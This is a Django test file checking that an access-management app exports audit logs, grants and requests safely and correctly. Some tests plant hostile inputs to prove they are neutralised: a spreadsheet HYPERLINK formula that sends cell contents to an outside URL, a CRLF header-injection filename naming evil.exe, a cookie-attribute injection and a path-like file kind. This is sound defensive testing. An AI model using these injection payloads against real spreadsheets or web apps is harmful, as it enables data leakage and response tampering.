"""The audit log and the grants as files: what is in them, who may take them, and that taking them is told."""

import csv
import io
import json
import re

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from enrollment import chain, lifecycle
from enrollment.models import AuditEvent, Resource
from tests import factories

BOB = "Bob <bob@example.com>"
BOTH = ("auditevent", "grant")
KINDS = (*BOTH, "accessrequest", "review")


def taken(client, url, model, kind, query=""):
    response = client.post(url(f"{model}_export") + query, {"as": kind})
    return response, response.getvalue().decode("utf-8-sig" if kind == "csv" else "utf-8")


def told():
    return AuditEvent.objects.filter(verb="audit.exported")


def test_an_auditor_takes_the_log_as_json_and_it_verifies_offline(browse, carol, granted, url):
    count = AuditEvent.objects.count()
    _response, text = taken(browse(carol), url, "auditevent", "jsonl")
    rows = list(chain.read_export(text.splitlines()))
    assert [row["seq"] for row in rows] == list(range(1, count + 1))
    assert chain.check(rows, (), from_start=True).problems == []


def test_taking_it_is_an_event_that_says_who_what_and_how_many(browse, carol, granted, url):
    taken(browse(carol), url, "auditevent", "csv", "?verb=grant.made")
    event = told().get()
    assert (event.actor_id, event.data) == (carol.pk, {"what": "audit", "as": "csv", "filter": "verb=grant.made", "rows": 1})


@pytest.mark.parametrize(("mark", "came_back"), [("9f00ab12", "9f00ab12"), ("", None), ("9f;Path=/", None), ("a" * 99, None)])
def test_a_form_hears_that_its_file_has_begun_by_its_own_mark_alone(browse, carol, granted, url, mark, came_back):
    where = url("auditevent_export")
    cookie = browse(carol).post(where, {"as": "csv", "mark": mark}).cookies.get("lychgate-file")
    assert (cookie and cookie.value) == came_back
    assert cookie is None or (cookie["path"], cookie["samesite"], cookie["max-age"]) == (where, "Strict", 60)


@pytest.fixture
def ended(erin, fileshare, bob, now):
    """What erin had, until bob ended it."""
    grant = factories.a_grant(erin, fileshare, [factories.a_device(erin)], reviewer=bob, now=now)
    lifecycle.revoke(grant, actor=bob, reason="enough", now=now)
    return grant


def test_a_file_holds_what_the_list_shows(browse, dave, granted, ended, url):
    admin = browse(dave)
    everything = [json.loads(line) for line in taken(admin, url, "grant", "jsonl", "?standing=all")[1].splitlines()]
    over = [json.loads(line) for line in taken(admin, url, "grant", "jsonl", "?standing=ended")[1].splitlines()]
    searched = [json.loads(line) for line in taken(admin, url, "grant", "jsonl", "?q=alice")[1].splitlines()]
    assert [row["user"] for row in everything] == ["Alice", "Erin"]
    assert [(row["user"], row["end_reason"], row["ended_by"]) for row in over] == [("Erin", "enough", "Bob")]
    assert [(row["user"], row["resource"], row["devices"]) for row in searched] == [("Alice", "fileshare", ["laptop"])]


def test_a_spreadsheet_finds_no_formula_in_what_people_typed(browse, carol, alice, laptop, fileshare, bob, now, url):
    Resource.objects.update(name="=1+1")
    reason = '=HYPERLINK("http://example.com?"&A1,"click")\n-2;@x'
    asked = factories.a_request(alice, fileshare, [laptop], now=now, reason=reason)
    lifecycle.approve(asked, reviewer=bob, now=now)
    for model in BOTH:
        response, text = taken(browse(carol), url, model, "csv")
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        assert [cell for cell in cells if re.match(r"\s*[=+\-@]", cell)] == []
        assert any("HYPERLINK" in cell for cell in cells)


def test_the_files_name_is_ours_alone(browse, carol, granted, url):
    Resource.objects.update(name='x"; filename="evil.exe\r\nX-Evil: 1')
    response, _text = taken(browse(carol), url, "grant", "csv", "?q=%22%0d%0aX-Evil:%201")
    assert re.fullmatch(r'attachment; filename="lychgate-grants-\d{8}T\d{6}Z\.csv"', response["Content-Disposition"])
    assert "X-Evil" not in response


@pytest.mark.parametrize("model", BOTH)
def test_looking_at_the_page_takes_nothing_and_says_how_many(model, browse, carol, granted, url, words, everything):
    client = browse(carol)
    before, page = everything(), words(client.get(url(f"{model}_export")))
    assert re.search(r"(One row|\d+ rows), as the list was filtered\.", page)
    assert everything() == before


@pytest.mark.parametrize(("name", "status"), [("bob", 403), ("alice", 302), ("erin", 302)])
def test_nobody_else_takes_a_file(name, status, request, browse, granted, url):
    client = browse(request.getfixturevalue(name))
    assert {client.post(url(f"{model}_export"), {"as": "csv"}).status_code for model in BOTH} == {status}
    assert not told().exists()


@pytest.mark.parametrize("kind", ["", "xls", "../csv"])
def test_another_kind_of_file_is_the_page_again(kind, browse, carol, granted, url, words):
    assert "JSON Lines" in words(browse(carol).post(url("grant_export"), {"as": kind}))
    assert not told().exists()


@pytest.mark.parametrize(("query", "status"), [("?verb__regex=(", 400), ("?at__year=abc", 302)])
def test_an_address_that_no_filter_wrote_takes_nothing(query, status, browse, carol, granted, url):
    assert browse(carol).post(url("auditevent_export") + query, {"as": "csv"}).status_code == status
    assert not told().exists()


@pytest.fixture
def many(alice, bob, erin, pep, laptop, now):
    """More of each: granted, denied, and taken in an emergency and reviewed, each for another resource."""

    hers = factories.a_device(erin, now=now)

    def made(begin, end):
        for number in range(begin, end):
            terms = factories.a_policy(f"terms {number}", break_glass_longest=3600, now=now)
            resource = factories.a_resource(f"res-{number}", pep=pep, policy=terms, number=number, now=now)
            factories.a_grant(alice, resource, [laptop], reviewer=bob, now=now)
            lifecycle.deny(factories.a_request(erin, resource, [hers], now=now), reviewer=bob, comment="no", now=now)
            taken = factories.an_emergency(erin, resource, [hers], now=now)
            lifecycle.review_break_glass(taken, reviewer=bob, justified=True, comment="", now=now)

    return made


@pytest.mark.parametrize("model", KINDS)
def test_a_file_costs_as_many_queries_for_many_rows(model, browse, carol, many, url, django_assert_max_num_queries):
    client = browse(carol)
    everything = {"grant": "?standing=all", "accessrequest": "?waiting=all"}.get(model, "")
    many(40, 41)
    with CaptureQueriesContext(connection) as few:
        first = taken(client, url, model, "csv", everything)[1].count("\r\n")
    many(41, 45)
    with django_assert_max_num_queries(len(few)):
        assert taken(client, url, model, "csv", everything)[1].count("\r\n") > first + 3


@pytest.mark.parametrize("model", KINDS)
@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_a_file_is_sent_while_it_is_read(model, kind, browse, carol, granted, url):
    response, _text = taken(browse(carol), url, model, kind)
    assert response.streaming


@pytest.fixture
def by_stand_in(alice, bob, erin, fileshare, laptop, now):
    factories.a_delegation(bob, delegate=erin, now=now)
    return factories.a_grant(alice, fileshare, [laptop, factories.a_device(alice, "phone")], reviewer=erin, now=now)


def test_a_file_of_grants_says_who_let_them_in(browse, carol, by_stand_in, many, url):
    many(40, 41)
    rows = list(csv.DictReader(io.StringIO(taken(browse(carol), url, "grant", "csv", "?standing=all")[1], newline="")))
    assert [(row["user"], row["approved_by"], row["found_justified_by"]) for row in rows] == [
        ("Alice", "Erin <erin@example.com> in the stead of Bob <bob@example.com>", ""),
        ("Alice", "Bob <bob@example.com>", ""),
        ("Erin", "", "Bob <bob@example.com>"),
    ]
    assert rows[0]["devices"] == "laptop; phone"


def test_requests_are_a_file_too_with_what_became_of_them(browse, carol, many, asked, url):
    many(40, 41)
    rows = [json.loads(line) for line in taken(browse(carol), url, "accessrequest", "jsonl", "?waiting=all")[1].splitlines()]
    found = [tuple(row[name] for name in ("user", "state", "approved_by", "denied_by", "found_justified_by")) for row in rows]
    assert sorted(found) == [
        ("Alice", "approved", [BOB], [], []),
        ("Alice", "pending", [], [], []),
        ("Erin", "approved", [], [], [BOB]),
        ("Erin", "denied", [], [BOB], []),
    ]
    assert {row["state"] for row in rows if row["grant"]} == {"approved"}


def test_a_spreadsheet_reads_instants_and_they_say_that_they_are_utc(browse, carol, granted, url):
    granted.refresh_from_db()
    row = next(csv.DictReader(io.StringIO(taken(browse(carol), url, "grant", "csv")[1], newline="")))
    exact = json.loads(taken(browse(carol), url, "grant", "jsonl")[1])
    assert row["ends_at_utc"] == f"{granted.ends_at:%Y-%m-%d %H:%M:%S}"
    assert exact["ends_at"] == f"{granted.ends_at:%Y-%m-%dT%H:%M:%S.%fZ}"
    assert "ends_at" not in row


def test_the_page_says_in_words_how_the_list_was_filtered(browse, carol, granted, foreign, fileshare, url, words):
    page = words(browse(carol).get(url("accessrequest_export"), {"waiting": "denied", "resource__id__exact": fileshare.pk, "q": "alice"}))
    assert "state: denied resource: Fileshare search: alice" in page
    assert "waiting=" not in page
    day = {"standing": "all", "starts_at__year": "2026", "starts_at__month": "3", "starts_at__day": "2"}
    assert "filtered. date: 2026-03-02 " in words(browse(carol).get(url("grant_export"), day))
    assert "filtered. state: live or to come request = 7 " in words(browse(carol).get(url("grant_export"), {"request": 7}))


def test_the_command_writes_csv_too_and_says_so_in_the_log(granted, capsys):
    call_command("audit", "export", "--csv")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out.removeprefix("\ufeff"), newline="")))
    assert [int(row["seq"]) for row in rows] == list(range(1, told().get().seq))
    assert (told().get().actor, told().get().data["rows"]) == ("the system", len(rows))
